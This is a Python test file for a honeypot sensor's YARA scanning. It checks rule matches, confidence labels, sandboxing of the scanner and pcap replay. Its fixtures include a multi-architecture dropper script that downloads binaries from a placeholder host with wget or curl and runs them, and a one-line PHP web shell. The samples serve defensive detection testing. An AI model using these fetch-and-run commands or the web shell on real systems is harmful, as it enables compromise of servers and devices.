"""Rules of YARA about what is left on a persona: files that ordinary clients bring, harmless imitations all of them."""

import hashlib
import json
import pathlib
import subprocess

import yara_x

from harness import KOMAINU, LIMIT_S, ROOT, Sensor, check, equal, run, wait_until

# Words that such scripts have, with names and addresses that lead nowhere.
SCRIPT = (
    b"#!/bin/sh\n# Komainu was here: an imitation, for a test.\n"
    b"for a in arm7 mips mpsl sh4 i686; do\n"
    b"wget http://192.0.2.1/hello.$a || curl -O http://192.0.2.1/hello.$a\n"
    b"chmod 777 hello.$a; ./hello.$a\ndone\n"
)
PAGE = b"<?php /* Komainu was here */ system($_GET['hello']); ?>"

RULES = """import "pe"
import "elf"
rule of_windows { condition: pe.is_dll() }
rule our_word : ours
{
    meta:
        komainu_label = "exploit"
        komainu_confidence = 66
        cve = "CVE-2099-12345"
    strings:
        $word = "a word of our own"
    condition:
        $word and not defined elf.type
}
rule unfinished { condition: nobody_knows_this }
"""


def yara(sensor, sha256):
    """The lines about a payload, when there are any."""

    def look():
        lines = [line for line in sensor.lines("honeypot.json") if line["event_type"] == "yara"]
        return [line["yara"] for line in lines if line["yara"]["sha256"] == sha256]

    return wait_until(f"what the rules say of {sha256}", look)


def summary_of(sensor, session):
    """The summary of a session; it is written when everything that came in it is scanned."""

    def look():
        ended = [line["honeypot"] for line in sensor.lines("honeypot.json") if line["event_type"] == "honeypot"]
        return [one for one in ended if one["session"]["id"] == session]

    return wait_until("the summary", look)[0]


def rules_of(lines):
    return [(line["namespace"], line["rule"]) for line in lines]


def by_reference(contents, *files):
    """The rules that hold, and where their patterns are, by YARA-X's own module for Python."""
    compiler = yara_x.Compiler()
    for path in files:
        compiler.new_namespace(path.stem)
        compiler.add_source(path.read_text())
    found = {}
    for rule in compiler.build().scan(contents).matching_rules:
        matches = [(pattern.identifier, one) for pattern in rule.patterns for one in pattern.matches[:4]]
        places = [{"pattern": name, "offset": one.offset, "bytes": one.length} for name, one in matches]
        found[(rule.namespace, rule.identifier)] = sorted(places[:16], key=lambda place: place["offset"])
    return found


def evidence(summary):
    return [one["rule"] for one in summary["evidence"]]


@check
def a_script_on_a_share(sensor):
    path = sensor.folder / "hello.sh"
    path.write_bytes(SCRIPT)
    command = ["smbclient", "-p", sensor.port(445), "-U", "guest%", "//127.0.0.1/hdd", "-c", f"put {path} hello.sh"]
    subprocess.run([str(part) for part in command], check=True, timeout=LIMIT_S, capture_output=True)
    lines = yara(sensor, hashlib.sha256(SCRIPT).hexdigest())
    equal(rules_of(lines), [("komainu", "script_fetches_and_runs"), ("komainu", "script_tries_processors")])
    equal(lines[1]["meta"]["komainu_label"], ["dropper"])
    equal(all(SCRIPT[place["offset"] :][: place["bytes"]] for line in lines for place in line["places"]), True)
    summary = summary_of(sensor, lines[0]["session_id"])
    # An upload by itself is 60.
    equal((summary["label"], summary["confidence"]), ("dropper", 94))
    equal(evidence(summary)[:2], ["yara:komainu:script_fetches_and_runs", "yara:komainu:script_tries_processors"])
    equal("T1105" in summary["attack_techniques"], True)


@check
def a_page_in_a_request(sensor):
    command = ["curl", "--silent", "--max-time", str(LIMIT_S), "--output", "/dev/null", "--data-binary", PAGE.decode()]
    command += ["--header", "Content-Type: application/octet-stream", f"http://127.0.0.1:{sensor.port(80)}/hello.php"]
    subprocess.run(command, check=True)
    lines = yara(sensor, hashlib.sha256(PAGE).hexdigest())
    equal(rules_of(lines), [("komainu", "web_shell_php")])
    summary = summary_of(sensor, lines[0]["session_id"])
    equal((summary["label"], summary["confidence"]), ("dropper", 92))
    equal("T1505.003" in summary["attack_techniques"], True)


@check
def a_rule_of_an_operator_at_a_port_that_nobody_understands(sensor):
    said = b"\x01\x02 a word of our own \x03"
    with sensor.connect(34567) as stream:
        port = stream.getsockname()[1]
        stream.sendall(said)
    summary, _, lines = sensor.session(port)
    lines = [line["yara"] for line in lines if line["event_type"] == "yara"]
    equal(rules_of(lines), [("our", "our_word")])
    equal((lines[0]["tags"], lines[0]["places"]), (["ours"], [{"pattern": "$word", "offset": 3, "bytes": 17}]))
    equal((summary["label"], summary["confidence"], summary["cves"]), ("exploit", 66, ["CVE-2099-12345"]))
    equal(evidence(summary)[0], "yara:our:our_word")


@check
def the_reference_says_the_same(sensor):
    built_in = ROOT / "crates/komainu-yara/rules/komainu.yar"
    for contents in (SCRIPT, PAGE):
        lines = yara(sensor, hashlib.sha256(contents).hexdigest())
        seen = {(line["namespace"], line["rule"]): line["places"] for line in lines}
        equal(seen, by_reference(contents, built_in))


@check
def what_is_harmless_has_no_line(sensor):
    text = b"A note that nobody needs to read.\n"
    with sensor.connect(37777) as stream:
        port = stream.getsockname()[1]
        stream.sendall(text)
    summary, _, lines = sensor.session(port)
    equal([line for line in lines if line["event_type"] == "yara"], [])
    equal(summary["label"], "unknown")


@check
def rules_that_are_not_supported_are_listed(sensor):
    path = sensor.folder / "our.yar"
    done = subprocess.run([KOMAINU, "sensor", "yara", "check", path], capture_output=True, text=True, check=True)
    first, second, last = done.stdout.splitlines()
    equal(first, f"{path}:3: rule of_windows: module `pe` is not supported")
    equal(second.startswith(f"{path}:15: rule unfinished: unknown identifier"), True, second)
    equal(last, f"{path}: 1 rules, 2 not supported")
    equal("17, 2 are not supported: `komainu sensor yara check` says why" in sensor.log.read_text(), True)


@check
def the_process_that_scans_can_do_nothing_else(sensor):
    children = pathlib.Path(f"/proc/{sensor.process.pid}/task").glob("*/children")
    pids = [pid for path in children for pid in path.read_text().split()]
    scanners = [pid for pid in pids if b"yara-scanner" in pathlib.Path(f"/proc/{pid}/cmdline").read_bytes()]
    equal(len(scanners), 1)
    status = pathlib.Path(f"/proc/{scanners[0]}/status").read_text()
    equal("NoNewPrivs:\t1" in status and "Uid:\t0" not in status, True, status)
    [files] = [line for line in pathlib.Path(f"/proc/{scanners[0]}/limits").read_text().splitlines() if "open files" in line]
    equal(files.split()[3:5], ["3", "3"])
    # Killed, it takes one payload with it and no more.
    subprocess.run(["kill", "-9", scanners[0]], check=True)
    seen = []
    for number in range(2):
        said = b"%d a word of our own" % number
        with sensor.connect(34567) as stream:
            stream.sendall(said)
        seen += yara(sensor, hashlib.sha256(said).hexdigest())
    equal((seen[0].get("why_not"), seen[1].get("rule")), ("failed", "our_word"))
    equal("sensor.scan_failed" in sensor.log.read_text(), True)


@check
def a_capture_is_scanned_alike(sensor):
    """A capture of one datagram with a file by TFTP, and its acknowledgements."""
    client, server = (bytes([198, 51, 100, 7]), 40000), (bytes([192, 0, 2, 1]), 69)
    answering = (server[0], 41000)

    def datagram(source, destination, payload):
        udp = source[1].to_bytes(2, "big") + destination[1].to_bytes(2, "big")
        udp += (8 + len(payload)).to_bytes(2, "big") + b"\0\0" + payload
        head = b"\x45\0" + (20 + len(udp)).to_bytes(2, "big") + b"\0\0\0\0\x40\x11\0\0"
        return head + source[0] + destination[0] + udp

    text = SCRIPT[:500]
    frames = [
        datagram(client, server, b"\0\x02hello.sh\0octet\0"),
        datagram(answering, client, b"\0\x04\0\0"),
        datagram(client, answering, b"\0\x03\0\x01" + text),
        datagram(answering, client, b"\0\x04\0\x01"),
    ]
    head = bytes.fromhex("d4c3b2a1020004000000000000000000ffff000065000000")
    sizes = [len(frame).to_bytes(4, "little") for frame in frames]
    times = [b"\0\0\0\x68" + (1000 * number).to_bytes(4, "little") for number in range(len(frames))]
    capture = sensor.folder / "hello.pcap"
    capture.write_bytes(head + b"".join(time + size + size + frame for time, size, frame in zip(times, sizes, frames)))
    command = [KOMAINU, "pcap", capture, "--yara", sensor.folder / "our.yar"]
    outcomes = [subprocess.run(command, capture_output=True, text=True, check=True) for _ in range(2)]
    equal("2 rules of YARA are not supported" in outcomes[0].stderr, True, outcomes[0].stderr)
    equal(outcomes[0].stdout == outcomes[1].stdout, True, "read again it says the same")
    lines = [json.loads(line) for line in outcomes[0].stdout.splitlines()]
    found = [line["yara"] for line in lines if line["event_type"] == "yara"]
    equal(rules_of(found), [("komainu", "script_fetches_and_runs"), ("komainu", "script_tries_processors")])
    [summary] = [line["honeypot"] for line in lines if line["event_type"] == "honeypot" and "evidence" in line["honeypot"]]
    equal((summary["label"], summary["confidence"]), ("dropper", 94))


class Scanning(Sensor):
    """A sensor with rules of its own."""

    def __init__(self, folder):
        super().__init__(folder, persona="recorder", configuration=f'[sensor]\nyara = ["{folder / "our.yar"}"]\n')
        (folder / "our.yar").write_text(RULES)


run(Scanning)
